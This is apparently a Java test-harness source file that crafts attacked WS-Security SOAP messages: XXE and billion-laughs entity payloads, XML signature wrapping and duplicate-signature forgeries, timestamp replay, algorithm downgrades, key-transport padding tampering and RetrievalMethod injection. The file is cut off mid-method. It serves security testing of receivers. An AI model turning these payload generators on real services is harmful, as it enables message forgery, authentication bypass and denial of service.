package org.wsscost.probe.attack;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.SecureRandom;
import java.security.Signature;
import java.security.spec.MGF1ParameterSpec;
import java.security.cert.X509Certificate;
import java.security.interfaces.RSAPublicKey;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.Base64;
import java.util.Date;
import java.util.Random;
import javax.crypto.Cipher;
import javax.crypto.spec.OAEPParameterSpec;
import javax.crypto.spec.PSource;
import javax.xml.XMLConstants;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import javax.xml.transform.TransformerException;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.dom.DOMSource;
import javax.xml.transform.stream.StreamResult;
import org.apache.xml.security.algorithms.JCEMapper;
import org.apache.xml.security.exceptions.XMLSecurityException;
import org.apache.xml.security.signature.XMLSignature;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.cert.jcajce.JcaX509CertificateConverter;
import org.bouncycastle.cert.jcajce.JcaX509v3CertificateBuilder;
import org.bouncycastle.operator.OperatorCreationException;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;
import org.w3c.dom.Attr;
import org.w3c.dom.CDATASection;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NamedNodeMap;
import org.w3c.dom.Node;
import org.w3c.dom.NodeList;
import org.w3c.dom.Text;
import org.wsscost.pipeline.Soap;
import org.wsscost.security.Santuario;
import org.xml.sax.SAXException;

/**
 * The edits an attacker makes to a message, on the bytes or on a DOM of them. A changed Timestamp
 * or a new signer is re-signed with Santuario, so that only what the attack changes is wrong.
 */
final class Craft {
    static final String WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd";
    static final String WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd";
    static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";
    static final String XENC = "http://www.w3.org/2001/04/xmlenc#";
    static final String XENC11 = "http://www.w3.org/2009/xmlenc11#";
    private static final String USERNAME_TOKEN_PROFILE =
            "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0";
    private static final String SOAP_MESSAGE_SECURITY =
            "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0";
    private static final String ATTACKER = "urn:wsscost:attacker";
    /** The actor a second Security header is addressed to: not the receiver. */
    static final String ELSEWHERE = "urn:wsscost:elsewhere";

    static {
        Santuario.init();
    }

    private Craft() {
    }

    /** A DOCTYPE declaring {@code xxe} as the file at {@code file}, referenced first thing in the payload. */
    static byte[] externalEntity(byte[] message, URI file) {
        return withDoctype(message, "<!ENTITY xxe SYSTEM \"" + file + "\">", "&xxe;");
    }

    /** The classic "billion laughs": ten levels of ten references each. */
    static byte[] entityBomb(byte[] message) {
        StringBuilder subset = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (int level = 1; level < 10; level++) {
            subset.append("<!ENTITY lol").append(level).append(" \"")
                    .append(("&lol" + (level - 1) + ";").repeat(10)).append("\">");
        }
        return withDoctype(message, subset.toString(), "&lol9;");
    }

    /** Inserts a DOCTYPE (after any XML declaration) and {@code reference} right after the payload's start tag. */
    private static byte[] withDoctype(byte[] message, String internalSubset, String reference) {
        String s = new String(message, StandardCharsets.UTF_8);
        int declarationEnd = s.startsWith("<?xml") ? s.indexOf("?>") + 2 : 0;
        int body = s.indexOf(":Body");
        int payloadStart = s.indexOf('<', s.indexOf('>', body) + 1);
        int payloadOpen = s.indexOf('>', payloadStart) + 1;
        if (body < 0 || payloadStart < 0) {
            throw new IllegalArgumentException("no SOAP Body payload to put an entity reference in");
        }
        return (s.substring(0, declarationEnd) + "<!DOCTYPE Envelope [" + internalSubset + "]>"
                + s.substring(declarationEnd, payloadOpen) + reference + s.substring(payloadOpen))
                .getBytes(StandardCharsets.UTF_8);
    }

    /** The signed Body moved into a new header element, and {@code other}'s Body put where it was. */
    static byte[] wrappedBody(byte[] signed, byte[] other) {
        return replacedBody(signed, other, (doc, body) -> newHeader(doc));
    }

    /** The signed Body moved to the end of the Security header, {@code other}'s Body put where it was. */
    static byte[] bodyInSecurity(byte[] signed, byte[] other) {
        return replacedBody(signed, other, (doc, body) -> first(doc, WSSE, "Security"));
    }

    /** The signed Body moved into a new {@code ds:Object} of the Signature, {@code other}'s Body put where it was. */
    static byte[] bodyInObject(byte[] signed, byte[] other) {
        return replacedBody(signed, other, (doc, body) -> {
            Element signature = first(doc, DSIG, "Signature");
            Element object = doc.createElementNS(DSIG, signature.getPrefix() == null ? "Object" : signature.getPrefix() + ":Object");
            signature.appendChild(object);
            return object;
        });
    }

    /** {@code other}'s Body put where the signed Body was, the signed Body appended inside it, after its payload. */
    static byte[] bodyNested(byte[] signed, byte[] other) {
        return replacedBody(signed, other, (doc, body) -> body(doc));
    }

    /** {@code other}'s Body put where the signed Body was, with the signed Body's attributes (its wsu:Id), the signed one in a new header. */
    static byte[] duplicateId(byte[] signed, byte[] other) {
        return replacedBody(signed, other, (doc, body) -> {
            copyAttributes(body, body(doc));
            return newHeader(doc);
        });
    }

    private static void copyAttributes(Element from, Element to) {
        NamedNodeMap attributes = from.getAttributes();
        for (int i = 0; i < attributes.getLength(); i++) {
            to.setAttributeNodeNS((Attr) attributes.item(i).cloneNode(true));
        }
    }

    /**
     * {@code signed} with {@code other}'s Body in place of the signed one, carrying the signed Body's attributes (its
     * wsu:Id), so that the signature's Body reference now points at it: the forgery the duplicated signature parts
     * carry. Parsed again from its bytes, so that a digest of it is the digest of what the receiver reads (an
     * imported Body's namespaces are declared only when it is written).
     */
    private static Document forged(byte[] signed, byte[] other) {
        Document doc = parse(signed);
        Element body = body(doc);
        Element forged = (Element) doc.importNode(body(parse(other)), true);
        copyAttributes(body, forged);
        body.getParentNode().replaceChild(forged, body);
        return parse(serialize(doc));
    }

    /**
     * The Body forged ({@link #forged}), and after the signature's SignedInfo a second one: a copy whose
     * references carry the digests of the message as it now stands. The signature value still matches the first.
     */
    static byte[] secondSignedInfo(byte[] signed, byte[] other) {
        Document doc = forged(signed, other);
        Element signedInfo = first(doc, DSIG, "SignedInfo");
        Node pristine = signedInfo.cloneNode(true);
        digestAgain(doc);
        signedInfo.getParentNode().insertBefore(pristine, signedInfo);
        return serialize(doc);
    }

    /**
     * The Body forged, and a second Reference to it in SignedInfo, after the first, carrying its digest; SignedInfo
     * has changed, so the signature value is stale (no keys).
     */
    static byte[] secondReference(byte[] signed, byte[] other) {
        Document doc = forged(signed, other);
        Element body = body(doc);
        String id = body.getAttributeNS(WSU, "Id");
        Element reference = null;
        NodeList references = first(doc, DSIG, "SignedInfo").getElementsByTagNameNS(DSIG, "Reference");
        for (int i = 0; i < references.getLength() && reference == null; i++) {
            Element r = (Element) references.item(i);
            reference = !id.isEmpty() && r.getAttribute("URI").equals("#" + id) ? r : null;
        }
        if (reference == null) {
            throw new IllegalArgumentException("its SignedInfo has no Reference to the Body's wsu:Id");
        }
        Element pristine = (Element) reference.cloneNode(true);
        digestAgain(doc);
        reference.removeAttribute("Id");
        reference.getParentNode().insertBefore(pristine, reference);
        return serialize(doc);
    }

    /** A second SignatureValue, of random bytes (the same on every run), put before the real one; the Body as signed. */
    static byte[] secondSignatureValue(byte[] signed) {
        Document doc = parse(signed);
        Element value = first(doc, DSIG, "SignatureValue");
        Element bogus = (Element) value.cloneNode(false);
        bogus.removeAttribute("Id");
        byte[] random = new byte[Base64.getMimeDecoder().decode(value.getTextContent()).length];
        new Random(54).nextBytes(random);
        bogus.setTextContent(Base64.getEncoder().encodeToString(random));
        value.getParentNode().insertBefore(bogus, value);
        return serialize(doc);
    }

    /**
     * The Body forged and the message signed by {@code signer}, whose certificate takes the sender's token; after
     * the KeyInfo that names it, a second KeyInfo names a copy of the sender's trusted certificate in a new token. A
     * receiver that checks trust on one KeyInfo and the signature with the other's key binds the forged Body.
     */
    static byte[] secondKeyInfo(byte[] signed, byte[] other, Signer signer) {
        Document doc = forged(signed, other);
        Element token = first(doc, WSSE, "BinarySecurityToken");
        Element trusted = renamed((Element) token.cloneNode(true), "wsscost-trusted");
        token.getParentNode().insertBefore(trusted, token.getNextSibling());
        setCertificate(token, signer);
        sign(doc, signer.key());
        Element keyInfo = (Element) first(doc, DSIG, "Signature").getElementsByTagNameNS(DSIG, "KeyInfo").item(0);
        if (keyInfo == null) {
            throw new IllegalArgumentException("its Signature has no KeyInfo");
        }
        Element second = (Element) keyInfo.cloneNode(true);
        pointAt(second, "wsscost-trusted");
        keyInfo.getParentNode().insertBefore(second, keyInfo.getNextSibling());
        return serialize(doc);
    }

    /**
     * The Body forged and signed by {@code signer} in a Signature of its own (its certificate in a token of its
     * own), put before the sender's Signature and token, which stay as they were: their Body digest now fails.
     */
    static byte[] secondSignature(byte[] signed, byte[] other, Signer signer) {
        Document doc = forged(signed, other);
        Element signature = first(doc, DSIG, "Signature");
        Element token = first(doc, WSSE, "BinarySecurityToken");
        Node keptSignature = signature.cloneNode(true);
        Node keptToken = token.cloneNode(true);
        renamed(token, "wsscost-attacker");
        pointAt(signature, "wsscost-attacker");
        setCertificate(token, signer);
        sign(doc, signer.key());
        token.getParentNode().insertBefore(keptToken, token.getNextSibling());
        signature.getParentNode().insertBefore(keptSignature, signature.getNextSibling());
        return serialize(doc);
    }

    /** {@code token} with the wsu:Id {@code id}. */
    private static Element renamed(Element token, String id) {
        Attr attr = token.getAttributeNodeNS(WSU, "Id");
        if (attr == null) {
            throw new IllegalArgumentException("its BinarySecurityToken has no wsu:Id");
        }
        attr.setValue(id);
        return token;
    }

    /**
     * The token references under {@code e} pointed at the token {@code id}, and the other ids under {@code e}
     * removed, so that a copy of the element shares none with the original.
     */
    private static void pointAt(Element e, String id) {
        NodeList references = e.getElementsByTagNameNS(WSSE, "Reference");
        if (references.getLength() == 0) {
            throw new IllegalArgumentException("its Signature names its token by no wsse:Reference");
        }
        for (int i = 0; i < references.getLength(); i++) {
            ((Element) references.item(i)).setAttribute("URI", "#" + id);
        }
        e.removeAttribute("Id");
        NodeList inside = e.getElementsByTagNameNS("*", "*");
        for (int i = 0; i < inside.getLength(); i++) {
            Element child = (Element) inside.item(i);
            child.removeAttribute("Id");
            child.removeAttributeNS(WSU, "Id");
        }
    }

    private static void setCertificate(Element token, Signer signer) {
        try {
            token.setTextContent(Base64.getEncoder().encodeToString(signer.certificate().getEncoded()));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("encoding the throwaway certificate: " + e.getMessage(), e);
        }
    }

    /** The signed Body moved into a second Security header addressed to another actor, {@code other}'s Body put where it was. */
    static byte[] otherActor(byte[] signed, byte[] other) {
        return replacedBody(signed, other, (doc, body) -> {
            Element security = first(doc, WSSE, "Security");
            Element second = doc.createElementNS(WSSE, security.getTagName());
            second.setAttributeNS(Soap.NS, Soap.PREFIX + ":actor", ELSEWHERE);
            header(doc).appendChild(second);
            return second;
        });
    }

    /** Where a wrapping attack puts the signed Body, once {@code other}'s Body has taken its place. */
    private interface Wrapper {
        Element of(Document doc, Element signedBody);
    }

    private static byte[] replacedBody(byte[] signed, byte[] other, Wrapper wrapper) {
        Document doc = parse(signed);
        Element body = body(doc);
        Node forged = doc.importNode(body(parse(other)), true);
        body.getParentNode().replaceChild(forged, body);
        wrapper.of(doc, body).appendChild(body);
        return serialize(doc);
    }

    /** {@code other}'s Body inserted before the signed Body. */
    static byte[] secondBody(byte[] signed, byte[] other) {
        Document doc = parse(signed);
        Element body = body(doc);
        body.getParentNode().insertBefore(doc.importNode(body(parse(other)), true), body);
        return serialize(doc);
    }

    /** {@code other}'s Body inserted after the signed Body, as the Envelope's last child. */
    static byte[] bodyAfter(byte[] signed, byte[] other) {
        Document doc = parse(signed);
        Element body = body(doc);
        body.getParentNode().insertBefore(doc.importNode(body(parse(other)), true), body.getNextSibling());
        return serialize(doc);
    }

    /**
     * An old Timestamp (moved by {@code age} and re-signed with {@code key}, as a message recorded long
     * ago) moved into a new header, and a fresh, unsigned copy of it without its wsu:Id put in its place.
     */
    static byte[] wrappedTimestamp(byte[] signed, Duration age, PrivateKey key, Instant now) {
        Document doc = parse(shiftedTimestamp(signed, age, key));
        Element old = first(doc, WSU, "Timestamp");
        Element fresh = (Element) old.cloneNode(true);
        fresh.removeAttributeNS(WSU, "Id");
        // whole seconds, a second behind: as a sender's clock writes it, never ahead of the receiver's
        Instant created = now.truncatedTo(ChronoUnit.SECONDS).minusSeconds(1);
        setTime(fresh, "Created", created);
        setTime(fresh, "Expires", created.plus(Duration.ofMinutes(5)));
        old.getParentNode().replaceChild(fresh, old);
        newHeader(doc).appendChild(old);
        return serialize(doc);
    }

    private static void setTime(Element timestamp, String field, Instant at) {
        NodeList found = timestamp.getElementsByTagNameNS(WSU, field);
        for (int i = 0; i < found.getLength(); i++) {
            found.item(i).setTextContent(at.toString());
        }
    }

    /**
     * An empty comment put inside the first text of the Body's payload (at its first space, else in its
     * middle). Exclusive canonicalization without comments leaves the comment out, so the signature
     * still verifies; a binder that stops at the comment binds less than was signed.
     */
    static byte[] commentSplit(byte[] signed) {
        Document doc = parse(signed);
        Text text = textIn(body(doc));
        String value = text.getData();
        int space = value.indexOf(' ');
        Text after = text.splitText(space > 0 ? space : value.length() / 2);
        after.getParentNode().insertBefore(doc.createComment(""), after);
        return serialize(doc);
    }

    /** The first non-blank text in the Body's payload: what {@link #commentSplit} splits. */
    static String signedText(byte[] message) {
        return textIn(body(parse(message))).getData();
    }

    private static Text textIn(Element body) {
        Text text = firstText(body);
        if (text == null) {
            throw new IllegalArgumentException("no text in the Body's payload (an encrypted Body has none)");
        }
        return text;
    }

    private static Text firstText(Node node) {
        for (Node n = node.getFirstChild(); n != null; n = n.getNextSibling()) {
            if (n instanceof Text t && !(n instanceof CDATASection) && !t.getData().isBlank()) {
                return t;
            }
            Text inside = n instanceof Element ? firstText(n) : null;
            if (inside != null) {
                return inside;
            }
        }
        return null;
    }

    /** The Timestamp's Created and Expires moved by {@code by}, and the message re-signed with {@code key}. */
    static byte[] shiftedTimestamp(byte[] signed, Duration by, PrivateKey key) {
        Document doc = parse(signed);
        Element timestamp = first(doc, WSU, "Timestamp");
        for (String field : new String[] {"Created", "Expires"}) {
            NodeList found = timestamp.getElementsByTagNameNS(WSU, field);
            for (int i = 0; i < found.getLength(); i++) {
                Node n = found.item(i);
                n.setTextContent(Instant.parse(n.getTextContent().strip()).plus(by).toString());
            }
        }
        sign(doc, key);
        return serialize(doc);
    }

    /** The BinarySecurityToken's certificate replaced by {@code signer}'s, and the message re-signed with its key. */
    static byte[] signedBy(byte[] signed, Signer signer) {
        Document doc = parse(signed);
        setCertificate(first(doc, WSSE, "BinarySecurityToken"), signer);
        sign(doc, signer.key());
        return serialize(doc);
    }

    /** Every {@code (ns, local)} element's Algorithm set to {@code uri} (its parameters removed), and the message re-signed. */
    static byte[] resignedWith(byte[] signed, String ns, String local, String uri, PrivateKey key) {
        Document doc = parse(signed);
        Element signature = first(doc, DSIG, "Signature");
        NodeList found = signature.getElementsByTagNameNS(ns, local);
        if (found.getLength() == 0) {
            throw new IllegalArgumentException("no {" + ns + "}" + local + " in the signature");
        }
        for (int i = 0; i < found.getLength(); i++) {
            Element e = (Element) found.item(i);
            e.setAttribute("Algorithm", uri);
            // exclusive c14n's InclusiveNamespaces belongs to the algorithm replaced
            while (e.getFirstChild() != null) {
                e.removeChild(e.getFirstChild());
            }
        }
        sign(doc, key);
        return serialize(doc);
    }

    /**
     * The UsernameToken's password sent as a PasswordDigest of {@code password} (WSS UsernameToken Profile 1.1:
     * Base64(SHA-1(nonce + created + password))), with the fresh Nonce and Created the digest covers.
     */
    static byte[] passwordDigest(byte[] message, String password) {
        Document doc = parse(message);
        Element token = first(doc, WSSE, "UsernameToken");
        Element pw = first(doc, WSSE, "Password");
        for (String[] old : new String[][] {{WSSE, "Nonce"}, {WSU, "Created"}}) {
            NodeList found = token.getElementsByTagNameNS(old[0], old[1]);
            for (int i = found.getLength() - 1; i >= 0; i--) {
                token.removeChild(found.item(i));
            }
        }
        byte[] nonce = new byte[16];
        new SecureRandom().nextBytes(nonce);
        String created = Instant.now().truncatedTo(ChronoUnit.SECONDS).toString();
        MessageDigest sha1;
        try {
            sha1 = MessageDigest.getInstance("SHA-1");
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("SHA-1: " + e.getMessage(), e);
        }
        sha1.update(nonce);
        sha1.update(created.getBytes(StandardCharsets.UTF_8));
        sha1.update(password.getBytes(StandardCharsets.UTF_8));
        pw.setAttribute("Type", USERNAME_TOKEN_PROFILE + "#PasswordDigest");
        pw.setTextContent(Base64.getEncoder().encodeToString(sha1.digest()));
        String prefix = token.getPrefix() == null ? "" : token.getPrefix() + ":";
        Element n = doc.createElementNS(WSSE, prefix + "Nonce");
        n.setAttribute("EncodingType", SOAP_MESSAGE_SECURITY + "#Base64Binary");
        n.setTextContent(Base64.getEncoder().encodeToString(nonce));
        Element c = doc.createElementNS(WSU, "wsu:Created");
        c.setAttributeNS(XMLConstants.XMLNS_ATTRIBUTE_NS_URI, "xmlns:wsu", WSU);
        c.setTextContent(created);
        token.insertBefore(c, pw.getNextSibling());
        token.insertBefore(n, c);
        return serialize(doc);
    }

    /**
     * The first EncryptedKey's session key, unwrapped with the receiver's {@code key}, wrapped again for its
     * {@code certificate} with RSA PKCS#1 v1.5. The signature does not cover the EncryptedKey: only the
     * transport changes.
     */
    static byte[] rsa15KeyTransport(byte[] encrypted, PrivateKey key, X509Certificate certificate) {
        return rewrapped(encrypted, key, method -> {
            method.setAttribute("Algorithm", XENC + "rsa-1_5");
            return wrap("RSA/ECB/PKCS1Padding", null, certificate);
        });
    }

    /**
     * The same with xmlenc11 RSA-OAEP (the URI kept) whose digest is {@code digest} and mask generation
     * {@code mgf}, both named in the message: SHA-1 or SHA-256.
     */
    static byte[] oaepKeyTransport(byte[] encrypted, PrivateKey key, X509Certificate certificate, String digest, String mgf) {
        return rewrapped(encrypted, key, method -> {
            if (!method.getAttribute("Algorithm").equals(XENC11 + "rsa-oaep")) {
                throw new IllegalArgumentException("its key transport is " + method.getAttribute("Algorithm")
                        + ", whose digest and mask generation are SHA-1 by definition");
            }
            Document doc = method.getOwnerDocument();
            Element d = doc.createElementNS(DSIG, "ds:DigestMethod");
            d.setAttributeNS(XMLConstants.XMLNS_ATTRIBUTE_NS_URI, "xmlns:ds", DSIG);
            d.setAttribute("Algorithm", digest);
            Element m = doc.createElementNS(XENC11, "xenc11:MGF");
            m.setAttributeNS(XMLConstants.XMLNS_ATTRIBUTE_NS_URI, "xmlns:xenc11", XENC11);
            m.setAttribute("Algorithm", mgf);
            method.appendChild(d);
            method.appendChild(m);
            return wrap("RSA/ECB/OAEPPadding", new OAEPParameterSpec(jce(digest), "MGF1", new MGF1ParameterSpec(jce(mgf)),
                    PSource.PSpecified.DEFAULT), certificate);
        });
    }

    /**
     * The first EncryptedKey's CipherValue replaced by a raw RSA encryption of random bytes for the receiver's
     * {@code certificate}: it decrypts, but its padding is wrong.
     */
    static byte[] badKeyPadding(byte[] encrypted, X509Certificate certificate) {
        Document doc = parse(encrypted);
        Element value = cipherValue(first(doc, XENC, "EncryptedKey"));
        RSAPublicKey key = (RSAPublicKey) certificate.getPublicKey();
        BigInteger n = key.getModulus();
        BigInteger m = new BigInteger(n.bitLength() - 1, new SecureRandom());
        byte[] raw = m.modPow(key.getPublicExponent(), n).toByteArray();
        byte[] fixed = new byte[(n.bitLength() + 7) / 8];
        int skip = Math.max(0, raw.length - fixed.length);
        System.arraycopy(raw, skip, fixed, fixed.length - (raw.length - skip), raw.length - skip);
        value.setTextContent(Base64.getEncoder().encodeToString(fixed));
        return serialize(doc);
    }

    /**
     * One bit flipped in the IV at the head of the Body's ciphertext: authentic key, altered data. In the IV, so
     * that the change is the same on every run (CBC alters the first plaintext byte only; GCM's tag fails), not
     * a block of random bytes whose parser error would differ from run to run.
     */
    static byte[] badCiphertext(byte[] encrypted) {
        Document doc = parse(encrypted);
        NodeList data = body(doc).getElementsByTagNameNS(XENC, "EncryptedData");
        if (data.getLength() == 0) {
            throw new IllegalArgumentException("its Body holds no EncryptedData");
        }
        Element value = cipherValue((Element) data.item(0));
        byte[] bytes = Base64.getMimeDecoder().decode(value.getTextContent().strip());
        bytes[0] ^= 0x01;
        value.setTextContent(Base64.getEncoder().encodeToString(bytes));
        return serialize(doc);
    }

    private static Element cipherValue(Element encrypted) {
        NodeList values = encrypted.getElementsByTagNameNS(XENC, "CipherValue");
        if (values.getLength() == 0) {
            throw new IllegalArgumentException("its " + encrypted.getLocalName() + " has no CipherValue");
        }
        return (Element) values.item(0);
    }

    /** How a session key is wrapped again: the EncryptionMethod edited to say so, and the wrapping cipher. */
    private interface Rewrap {
        Cipher edit(Element method);
    }

    private static byte[] rewrapped(byte[] encrypted, PrivateKey key, Rewrap rewrap) {
        Document doc = parse(encrypted);
        Element encryptedKey = first(doc, XENC, "EncryptedKey");
        Element method = (Element) encryptedKey.getElementsByTagNameNS(XENC, "EncryptionMethod").item(0);
        Element value = (Element) encryptedKey.getElementsByTagNameNS(XENC, "CipherValue").item(0);
        if (method == null || value == null) {
            throw new IllegalArgumentException("its EncryptedKey has no EncryptionMethod or CipherValue");
        }
        try {
            byte[] sessionKey = unwrap(method, key).doFinal(Base64.getMimeDecoder().decode(value.getTextContent().strip()));
            while (method.getFirstChild() != null) {
                method.removeChild(method.getFirstChild());
            }
            value.setTextContent(Base64.getEncoder().encodeToString(rewrap.edit(method).doFinal(sessionKey)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("re-wrapping the session key: " + e.getMessage(), e);
        }
        return serialize(doc);
    }

    /** The cipher that unwraps with the EncryptedKey's own RSA-OAEP parameters (SHA-1 where it names none). */
    private static Cipher unwrap(Element method, PrivateKey key) throws GeneralSecurityException {
        String uri = method.getAttribute("Algorithm");
        if (!uri.equals(XENC11 + "rsa-oaep") && !uri.equals(XENC + "rsa-oaep-mgf1p")) {
            throw new IllegalArgumentException("its key transport is " + uri + ", not RSA-OAEP");
        }
        NodeList digests = method.getElementsByTagNameNS(DSIG, "DigestMethod");
        NodeList mgfs = method.getElementsByTagNameNS(XENC11, "MGF");
        String digest = digests.getLength() == 0 ? "SHA-1" : jce(((Element) digests.item(0)).getAttribute("Algorithm"));
        String mgf = mgfs.getLength() == 0 ? "SHA-1" : jce(((Element) mgfs.item(0)).getAttribute("Algorithm"));
        Cipher c = Cipher.getInstance("RSA/ECB/OAEPPadding");
        c.init(Cipher.DECRYPT_MODE, key, new OAEPParameterSpec(digest, "MGF1", new MGF1ParameterSpec(mgf), PSource.PSpecified.DEFAULT));
        return c;
    }

    private static String jce(String uri) {
        return switch (uri) {
            case DSIG + "sha1", XENC11 + "mgf1sha1" -> "SHA-1";
            case XENC + "sha256", XENC11 + "mgf1sha256" -> "SHA-256";
            default -> throw new IllegalArgumentException("its RSA-OAEP names " + uri + ", which the crafter does not know");
        };
    }

    private static Cipher wrap(String transformation, OAEPParameterSpec params, X509Certificate certificate) {
        try {
            Cipher c = Cipher.getInstance(transformation);
            c.init(Cipher.ENCRYPT_MODE, certificate.getPublicKey(), params);
            return c;
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(transformation + ": " + e.getMessage(), e);
        }
    }

    /**
     * {@code copies} References added to SignedInfo, each to {@code uri} (null: the first Reference's own, the
     * Body or the Timestamp) with {@code transforms} (a {@code ds:Transforms} element as text, or null), with the
     * first Reference's digest value. With {@code key}, SignedInfo is signed again as it now stands (the digests
     * are not computed: crafting resolves nothing, and a receiver that checks the signature value first goes on
     * to resolve the references); with a null key, it is left as an attacker without keys leaves it, the
     * signature value stale.
     */
    static byte[] withReferences(byte[] signed, String uri, String transforms, int copies, PrivateKey key) {
        Document doc = parse(signed);
        Element signedInfo = first(doc, DSIG, "SignedInfo");
        Element model = (Element) signedInfo.getElementsByTagNameNS(DSIG, "Reference").item(0);
        if (model == null) {
            throw new IllegalArgumentException("its SignedInfo has no Reference");
        }
        for (int i = 0; i < copies; i++) {
            Element ref = (Element) model.cloneNode(true);
            ref.removeAttribute("Id");
            if (uri != null) {
                ref.setAttribute("URI", uri);
            }
            NodeList old = ref.getElementsByTagNameNS(DSIG, "Transforms");
            if (old.getLength() > 0) {
                ref.removeChild(old.item(0));
            }
            if (transforms != null) {
                ref.insertBefore(doc.importNode(parse(transforms.getBytes(StandardCharsets.UTF_8)).getDocumentElement(), true),
                        ref.getFirstChild());
            }
            signedInfo.appendChild(ref);
        }
        if (key != null) {
            signSignedInfo(doc, key);
        }
        return serialize(doc);
    }

    /** A new signature value over SignedInfo as it stands, its references' digests left as they are. */
    private static void signSignedInfo(Document doc, PrivateKey key) {
        markIds(doc.getDocumentElement());
        try {
            XMLSignature signature = new XMLSignature(first(doc, DSIG, "Signature"), "", false);
            Signature rsa = Signature.getInstance(JCEMapper.translateURItoJCEID(signature.getSignedInfo().getSignatureMethodURI()));
            rsa.initSign(key);
            rsa.update(signature.getSignedInfo().getCanonicalizedOctetStream());
            first(doc, DSIG, "SignatureValue").setTextContent(Base64.getEncoder().encodeToString(rsa.sign()));
        } catch (XMLSecurityException | GeneralSecurityException | IOException e) {
            throw new IllegalStateException("signing SignedInfo: " + e.getMessage(), e);
        }
    }

    /** A ds:RetrievalMethod to {@code uri} put first in the Signature's KeyInfo, which the signature does not cover. */
    static byte[] withRetrievalMethod(byte[] signed, URI uri) {
        Document doc = parse(signed);
        Element keyInfo = (Element) first(doc, DSIG, "Signature").getElementsByTagNameNS(DSIG, "KeyInfo").item(0);
        if (keyInfo == null) {
            throw new IllegalArgumentException("its Signature has no KeyInfo");
        }
        Element retrieval = doc.createElementNS(DSIG, "ds:RetrievalMethod");
        retrieval.setAttributeNS(XMLConstants.XMLNS_ATTRIBUTE_NS_URI, "xmlns:ds", DSIG);
        retrieval.setAttribute("URI", uri.toString());
        retrieval.setAttribute("Type", DSIG + "X509Data");
        keyInfo.insertBefore(retrieval, keyInfo.getFirstChild());
        return serialize(doc);
    }

    /** A key pair and the self-signed certificate nobody trusts. */
    record Signer(PrivateKey key, X509Certificate certificate) {
        static Signer throwaway() {
            try {
                KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
                generator.initialize(2048);
                KeyPair pair = generator.generateKeyPair();
                X500Name name = new X500Name("CN=mallory, O=wsscost attack tests");
                Instant now = Instant.now();
                X509Certificate cert = new JcaX509CertificateConverter().getCertificate(new JcaX509v3CertificateBuilder(
                        name, BigInteger.valueOf(now.toEpochMilli()), Date.from(now.minus(Duration.ofDays(1))),
                        Date.from(now.plus(Duration.ofDays(365))), name, pair.getPublic())
                        .build(new JcaContentSignerBuilder("SHA256withRSA").build(pair.getPrivate())));
                return new Signer(pair.getPrivate(), cert);
            } catch (GeneralSecurityException | OperatorCreationException e) {
                throw new IllegalStateException("throwaway key pair: " + e.getMessage(), e);
            }
        }
    }

    /** Recomputes every reference's digest and the signature value of the message's first signature. */
    private static void sign(Document doc, PrivateKey key) {
        try {
            signature(doc).sign(key);
        } catch (XMLSecurityException e) {
            throw new IllegalStateException("re-signing: " + e.getMessage(), e);
        }
    }

    /** Recomputes every reference's digest in the first signature's SignedInfo, its signature value left as it was. */
    private static void digestAgain(Document doc) {
        try {
            signature(doc).getSignedInfo().generateDigestValues();
        } catch (XMLSecurityException e) {
            throw new IllegalStateException("digesting again: " + e.getMessage(), e);
        }
    }

    /** The message's first signature, its ids marked and its references made (a parsed SignedInfo makes them on first use). */
    private static XMLSignature signature(Document doc) throws XMLSecurityException {
        markIds(doc.getDocumentElement());
        XMLSignature signature = new XMLSignature(first(doc, DSIG, "Signature"), "", false);
        for (int i = 0; i < signature.getSignedInfo().getLength(); i++) {
            signature.getSignedInfo().item(i);
        }
        return signature;
    }

    /** Santuario resolves {@code #id} references through the DOM's ID attributes, which a plain parse does not mark. */
    private static void markIds(Element e) {
        if (e.hasAttributeNS(WSU, "Id")) {
            e.setIdAttributeNS(WSU, "Id", true);
        }
        for (Node n = e.getFirstChild(); n != null; n = n.getNextSibling()) {
            if (n instanceof Element child) {
                markIds(child);
            }
        }
    }

    /** A new element of the attacker's namespace at the end of the Header. */
    private static Element newHeader(Document doc) {
        Element wrapper = doc.createElementNS(ATTACKER, "atk:Wrapper");
        header(doc).appendChild(wrapper);
        return wrapper;
    }

    private static Element body(Document doc) {
        return first(doc, Soap.NS, "Body");
    }

    private static Element header(Document doc) {
        NodeList headers = doc.getElementsByTagNameNS(Soap.NS, "Header");
        if (headers.getLength() > 0) {
            return (Element) headers.item(0);
        }
        Element header = doc.createElementNS(Soap.NS, Soap.PREFIX + ":Header");
        doc.getDocumentElement().insertBefore(header, body(doc));
        return header;
    }

    private static Element first(Document doc, String ns, String local) {
        NodeList found = doc.getElementsByTagNameNS(ns, local);
        if (found.getLength() == 0) {
            throw new IllegalArgumentException("no {" + ns + "}" + local + " in the message");
        }
        return (Element) found.item(0);
    }

    private static Document parse(byte[] message) {
        try {
            DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();
            dbf.setNamespaceAware(true);
            dbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
            return dbf.newDocumentBuilder().parse(new ByteArrayInputStream(message));
        } catch (ParserConfigurationException | SAXException | IOException e) {
            throw new IllegalArgumentException("not a well-formed message: " + e.getMessage(), e);
        }
    }

    private static byte[] serialize(Document doc) {
